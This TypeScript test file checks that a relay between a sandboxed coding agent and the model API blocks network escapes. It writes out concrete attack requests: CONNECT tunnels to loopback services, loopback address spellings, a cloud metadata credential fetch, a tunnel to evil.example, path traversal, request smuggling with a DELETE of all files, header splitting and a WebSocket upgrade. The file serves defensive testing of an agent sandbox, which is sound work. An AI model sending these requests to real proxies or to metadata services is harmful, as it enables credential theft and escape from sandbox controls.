/**
 * The network, by way of the relay: to have the host's side dial or send what it must not. The
 * control is a way out as one writes it without an attacker in mind, behind the same relay.
 */
import { type Attempt, attempt, group, type Verdict, verdict } from "./catalogue.ts";
import { fortress } from "./support/containers.ts";
import { hostPlace, lazily } from "./support/places.ts";
import { KEY } from "./support/victims.ts";
import { naiveWayOut, productWayOut, type WayOut } from "./support/way-out.ts";

const inside = lazily(async () => fortress(await hostPlace("way-out")));
const product = lazily(async () => productWayOut(await inside()));
const control = lazily(async () => naiveWayOut(await inside()));

const HEAD = "POST /v1/responses HTTP/1.1\r\nhost: x\r\n";
/** What Codex sends, as short as it gets. */
const BODY = '{"model":"m","input":[],"stream":true,"store":false}';
const LENGTH = `content-length: ${BODY.length}\r\n`;

/** What is sent, and to which of the two ports. */
type Trick = (out: WayOut) => { readonly port: "model" | "proxy"; readonly bytes: string };

/** Sends the trick's bytes; `judge` looks at what came of it on the host. */
function trick(
  name: string,
  tries: string,
  mustHappen: string,
  bytes: Trick,
  judge: (out: WayOut, before: { seen: number; reached: number }, answer: string) => Verdict,
): Attempt {
  return attempt<WayOut>({
    name,
    tries,
    mustHappen,
    strike: async (out) => {
      const before = { seen: out.upstream.seen.length, reached: out.victim.reached() };
      const what = bytes(out);
      const answer = await out.raw(
        what.port === "model" ? out.modelPort : out.proxyPort,
        what.bytes,
      );
      return judge(out, before, answer);
    },
    product,
    control,
  });
}

/** The victim was reached, or the answer is anything but a refusal. */
function reachesVictim(out: WayOut, before: { reached: number }, answer: string): Verdict {
  const count = out.victim.reached() - before.reached;
  const hasKey = out.victim.heard.slice(before.reached).some((words) => words.includes(KEY));
  if (count > 0) return verdict(true, `the victim was reached${hasKey ? " with the key" : ""}`);
  const refused = /^HTTP\/1\.1 4\d\d/.test(answer);
  return verdict(!refused, answer.split("\r\n")[0] ?? "no answer");
}

/** The upstream was asked for anything but the one call. */
function asksUpstream(out: WayOut, before: { seen: number }): Verdict {
  const seen = out.upstream.seen
    .slice(before.seen)
    .map((request) => `${request.method} ${request.url}`);
  const other = seen.find((request) => request !== "POST /v1/responses");
  return verdict(other !== undefined, seen.join(", ") || "the upstream was not asked");
}

const NOBODY = "only the upstream is dialled";
const ONE_CALL = "the upstream sees the one permitted call or nothing";

/** Ways to write 127.0.0.1, for those who compare names. */
const LOOPBACKS = [
  "127.0.0.1",
  "localhost",
  "LOCALHOST.",
  "127.1",
  "2130706433",
  "0x7f000001",
  "0177.0.0.1",
  "0.0.0.0",
  "[::ffff:127.0.0.1]",
];

group("network", [
  trick(
    "tunnel to the model's host",
    "asks the proxy to CONNECT to the upstream, and calls another of its paths there",
    ONE_CALL,
    ({ upstream }) => ({
      port: "proxy",
      bytes: `CONNECT 127.0.0.1:${upstream.port} HTTP/1.1\r\n\r\nGET /v1/files HTTP/1.1\r\nhost: x\r\n\r\n`,
    }),
    asksUpstream,
  ),
  trick(
    "tunnel to the host",
    "asks the proxy to CONNECT to the user's service on loopback",
    NOBODY,
    ({ victim }) => ({
      port: "proxy",
      bytes: `CONNECT 127.0.0.1:${victim.port} HTTP/1.1\r\nhost: x\r\n\r\nGET / HTTP/1.1\r\n\r\n`,
    }),
    reachesVictim,
  ),
  attempt<WayOut>({
    name: "loopback spelled otherwise",
    tries: `asks the proxy for ${LOOPBACKS.length} spellings of 127.0.0.1`,
    mustHappen: NOBODY,
    strike: async (out) => {
      const before = { reached: out.victim.reached() };
      const answers = await Promise.all(
        LOOPBACKS.map((name) =>
          out.raw(
            out.proxyPort,
            `GET http://${name}:${out.victim.port}/ HTTP/1.1\r\nhost: ${name}\r\n\r\n`,
            3,
          ),
        ),
      );
      const passed = answers.find((answer) => !/^HTTP\/1\.1 4\d\d/.test(answer));
      return reachesVictim(out, before, passed ?? answers[0] ?? "");
    },
    product,
    control,
  }),
  trick(
    "metadata service",
    "asks the proxy for the credentials at 169.254.169.254",
    NOBODY,
    () => ({
      port: "proxy",
      bytes:
        "GET http://169.254.169.254/latest/meta-data/iam/ HTTP/1.1\r\nhost: 169.254.169.254\r\n\r\n",
    }),
    reachesVictim,
  ),
  trick(
    "another host",
    "asks the proxy for a host that is on no list",
    NOBODY,
    () => ({
      port: "proxy",
      bytes: "CONNECT evil.example:443 HTTP/1.1\r\n\r\nGET /?what-i-read HTTP/1.1\r\n\r\n",
    }),
    reachesVictim,
  ),
  trick(
    "allowed name, other Host",
    "asks the proxy for an absolute address and names another host in the Host header",
    NOBODY,
    ({ victim }) => ({
      port: "proxy",
      bytes: `GET http://127.0.0.1:${victim.port}/ HTTP/1.1\r\nhost: api.openai.com\r\n\r\n`,
    }),
    reachesVictim,
  ),
  trick(
    "absolute address",
    "asks the model's port for its own absolute address, to get the key sent there",
    NOBODY,
    ({ victim }) => ({
      port: "model",
      bytes: `POST http://127.0.0.1:${victim.port}/v1/responses HTTP/1.1\r\nhost: x\r\n${LENGTH}\r\n${BODY}`,
    }),
    reachesVictim,
  ),
  trick(
    "Host header",
    "names its own service in the Host header of a model call",
    "the call goes to the upstream, whatever Host says",
    ({ victim }) => ({
      port: "model",
      bytes: `POST /v1/responses HTTP/1.1\r\nhost: 127.0.0.1:${victim.port}\r\n${LENGTH}\r\n${BODY}`,
    }),
    (out, before) => {
      const count = out.victim.reached() - before.reached;
      return verdict(count > 0, count > 0 ? "the key went to the victim" : "the upstream had it");
    },
  ),
  trick(
    "another path",
    "calls other paths of the upstream with the key: files, models, dots and encodings",
    ONE_CALL,
    () => ({ port: "model", bytes: "GET /v1/responses/../files HTTP/1.1\r\nhost: x\r\n\r\n" }),
    asksUpstream,
  ),
  trick(
    "pipelining",
    "sends a second request behind the permitted one on the same connection",
    ONE_CALL,
    () => ({
      port: "model",
      bytes: `${HEAD}${LENGTH}\r\n${BODY}GET /v1/files HTTP/1.1\r\nhost: x\r\n\r\n`,
    }),
    asksUpstream,
  ),
  trick(
    "request smuggling",
    "gives a length and chunks, so that two servers see different ends of the request",
    ONE_CALL,
    () => ({
      port: "model",
      bytes: `${HEAD}content-length: 49\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nDELETE /v1/files/all HTTP/1.1\r\nhost: x\r\n\r\n`,
    }),
    asksUpstream,
  ),
  trick(
    "header splitting",
    "hides a header behind a bare line feed in another one",
    "no header from the attacker reaches the upstream",
    () => ({
      port: "model",
      bytes: `${HEAD}user-agent: a\nx-smuggled: yes\r\nopenai-organization: theirs\r\n${LENGTH}\r\n${BODY}`,
    }),
    (out, before) => {
      const seen = out.upstream.seen
        .slice(before.seen)
        .map((request) => request.headers.toLowerCase());
      const passed = seen.some(
        (headers) => headers.includes("smuggled") || headers.includes("theirs"),
      );
      return verdict(passed, `${seen.length} requests came to the upstream`);
    },
  ),
  trick(
    "credentials of its own",
    "sends its own Authorization, Cookie and key headers with a model call",
    "the upstream sees the user's key and no other",
    () => ({
      port: "model",
      bytes: `${HEAD}Authorization: Bearer attacker\r\nCookie: a=attacker\r\nX-Api-Key: attacker\r\nconnection: close, x-codex-turn\r\n${LENGTH}\r\n${BODY}`,
    }),
    (out, before) => {
      const seen = out.upstream.seen.slice(before.seen).map((request) => request.headers);
      const theirs = seen.some((headers) => headers.includes("attacker"));
      return verdict(theirs || seen.length === 0, `${seen.length} calls, theirs: ${theirs}`);
    },
  ),
  trick(
    "WebSocket",
    "upgrades the model's connection to a tunnel",
    "nothing is upgraded",
    () => ({
      port: "model",
      bytes:
        "GET /v1/responses HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\nsec-websocket-version: 13\r\n\r\n",
    }),
    (out) => verdict(out.upstream.upgrades() > 0, `${out.upstream.upgrades()} upgrades`),
  ),
]);
